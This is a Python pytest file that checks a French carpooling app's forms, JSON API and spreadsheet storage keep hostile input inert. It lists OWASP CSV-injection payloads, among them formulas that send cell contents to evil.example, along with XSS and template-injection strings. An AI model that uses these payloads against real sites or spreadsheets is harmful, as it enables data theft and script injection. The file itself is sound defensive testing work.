"""Hostile and odd text through every form and every sheet column: inert, kept, never a crash.

Payloads: OWASP CSV-injection and XSS cheat-sheet strings, unicode edge cases, control
characters, 10,000-character and blank values.
"""
import re

import pytest
from markupsafe import escape

from comobi.schema import REQUESTS, TRIPS
from comobi.storage.safe_text import for_sheet, from_sheet
from tests.fault_backends import backend  # noqa: F401 - fixture
from tests.test_forms import OFFER, REQUEST
from tests.workbooks import in_days, trip_row, trips_workbook

CSV_INJECTION = [
    "=cmd|' /C calc'!A0", "+2+3+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1;"Cliquez ici")', '=IMPORTXML(CONCAT("http://evil.example/?v=";A2);"//a")',
    "=1+1", "\t=1+1", "\r=1+1", "- marché le jeudi", "'=already quoted",
]
XSS = [
    "<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "<svg/onload=alert(1)>",
    "</textarea><script>alert(1)</script>", "javascript:alert(1)", "'';!--\"<XSS>=&{()}", "{{ 7*7 }}{% raw %}",
    "<a href=\"javascript:alert(1)\">x</a>", "<iframe src=//evil.example></iframe>",
]
ODD = [
    "abc\u202edcba\u202c", "zéro\u200blargeur\u200d", "🚗👵🏽 covoit", "e\u0301\u0301\u0301\u0301", "a\x00b\x0bc",
    "x" * 10_000, "", "   ", "Saint-Cirq-Lapopie", "L'Hospitalet",
]
PAYLOADS = CSV_INJECTION + XSS + ODD
FREE_TEXT = ("first_name", "last_name", "origin_detail", "destination_detail", "remarks")
STRUCTURED = ("origin", "destination", "phone", "email", "outbound_time", "return_time", "date", "seats",
              "preferred_contact", "days")
COLUMNS = {"first_name": "Prénom", "last_name": "Nom", "origin_detail": "Lieu de départ",
           "destination_detail": "Lieu d'arrivée", "remarks": "Remarques"}
LIVE = re.compile(r"<(script|img|svg|iframe|a href=\"javascript|xss)", re.IGNORECASE)


def stored(text: str) -> str:
    """What a person typed, as the app keeps it: trimmed, without unstorable control characters."""
    return re.sub(r"[\x00-\x08\x0b\x0c\x0e-\x1f]", "", text.strip()).strip()


def assert_inert(response):
    body = response.get_data(as_text=True)
    assert response.status_code < 500, body[:500]
    assert "Traceback" not in body
    assert "Content-Security-Policy" in response.headers
    assert not LIVE.search(body), LIVE.search(body).group(0)
    return body


def sheet_records(path, title):
    from tests.workbooks import read_tab

    rows = read_tab(path, title)
    return [dict(zip(rows[0], row)) for row in rows[1:]]


@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
def test_free_text_fields_keep_the_text_exactly_and_show_it_inert(make_app, tmp_path, payload):
    client = make_app().test_client()
    data = {**OFFER, **{field: payload for field in FREE_TEXT}}
    response = client.post("/proposer", follow_redirects=True, data=data)
    page = assert_inert(response)
    if response.status_code == 422:  # too long, or blank where required: said in French, input kept
        assert "Le formulaire n'est pas encore complet" in page
        assert "caractères au plus" in page or "Ce champ est obligatoire" in page
        return
    trip_id = re.search(r"<strong>(T\w+)</strong>", page).group(1)
    row = sheet_records(tmp_path / "covoiturage.xlsx", "Trajets")[-1]
    for field, header in COLUMNS.items():
        assert from_sheet(row[header] or "") == stored(payload), header
        assert row[header] == (for_sheet(stored(payload)) or None)
    for url in ("/trajets", "/trajets.json", "/communes/lalbenque", "/"):
        assert_inert(client.get(url))
    page = assert_inert(client.get(f"/trajets/{trip_id}"))
    assert str(escape(stored(payload))) in page  # shown as the text it is, not as markup or template
    body = assert_inert(client.post(f"/trajets/{trip_id}/contact"))
    assert "06 39 98 00 42" in body
    shown = client.get("/trajets.json").get_json()["trajets"]
    assert [t["remarques"] for t in shown if t["id"] == trip_id] == [stored(payload)]


@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
def test_structured_fields_refuse_or_accept_but_never_break(client, payload):
    for field in STRUCTURED:
        response = client.post("/proposer", follow_redirects=True, data={**OFFER, field: payload})
        page = assert_inert(response)
        if response.status_code == 422:
            assert "Le formulaire n'est pas encore complet" in page, field
    for url, form in (("/demander", REQUEST), ("/retrait", {"reference": "T7K2QF", "phone": "0639985099"})):
        for field in form:
            assert_inert(client.post(url, follow_redirects=True, data={**form, field: payload}))


@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
def test_cells_typed_by_the_clerk_come_out_inert_everywhere(board_client, sheet_path, make_app, payload):
    payload = re.sub(r"[\x00-\x08\x0b\x0c\x0e-\x1f]", "", payload)  # no cell can hold these
    every_column = {h: payload for h in ("Prénom", "Nom", "Lieu de départ", "Lieu d'arrivée", "Remarques",
                                         "E-mail", "Contact préféré", "Téléphone")}
    trips = [
        trip_row(id="T1", **every_column),
        trip_row(id="T2", Départ=payload),
        trip_row(id="T3", Jours=payload, Statut=payload),
        trip_row(id="T4", days="", date=in_days(2), outbound_time=payload, seats=payload),
        trip_row(id=payload[:50] or "T5"),
    ]
    requests = [REQUESTS.headers, [payload if h not in ("Départ", "Arrivée") else "Cahors" for h in REQUESTS.headers]]
    trips_workbook(sheet_path, trips, extra_tabs={"Demandes": requests})
    app = make_app(sheet_path)
    client = app.test_client()
    for url in ("/", "/trajets", "/trajets.json", "/trajets/T1", "/communes/cahors", "/communes/limogne-en-quercy",
                "/trajets?depart=Limogne-en-Quercy&arrivee=Cahors", "/api/v1/driver_regular_trips?departureLat=44.34"
                "&departureLng=1.55&arrivalLat=44.45&arrivalLng=1.44&departureTimeOfDay=08:30:00&timeDelta=7200"):
        assert_inert(client.get(url))
    assert_inert(client.post("/trajets/T1/contact"))
    check = app.test_cli_runner().invoke(args=["sheet", "check"])
    assert check.exit_code == 0 and "Traceback" not in check.output


@pytest.mark.parametrize("payload", CSV_INJECTION + XSS + ["a\x00b"], ids=range(len(CSV_INJECTION + XSS) + 1))
def test_each_adapter_stores_every_field_inert_and_reads_it_back(backend, payload):
    """Through the storage service on each adapter: protected cell, original text on the page."""
    storage = backend.make_app().extensions["comobi.storage"]
    values = {field: payload for field in TRIPS.fields if field not in ("id", "key")}
    values.update(origin="Cahors", destination="Figeac", days="lundi", status="publié", outbound_time="8h",
                  return_time="", date="", seats="2", direct_contact="Oui")  # fields a trip needs parsed
    trip_id = storage.add_row(TRIPS, values, "T")
    header = backend.grid("Trajets")[0]
    row = next(r for r in backend.grid("Trajets") if trip_id in r)
    remarks = header.index("Remarques") + 1
    raw = backend.cell("Trajets", backend.grid("Trajets").index(row) + 1, remarks)
    assert isinstance(raw, str) and not raw.startswith(("=", "+", "-", "@", "\t", "\r"))
    storage.invalidate()
    trip = storage.board().trip(trip_id)
    written = re.sub(r"[\x00-\x08\x0b\x0c\x0e-\x1f]", "", payload).replace("\r", "\n")  # nothing else changed
    assert trip.remarks == written and trip.first_name == written and trip.origin_detail == written
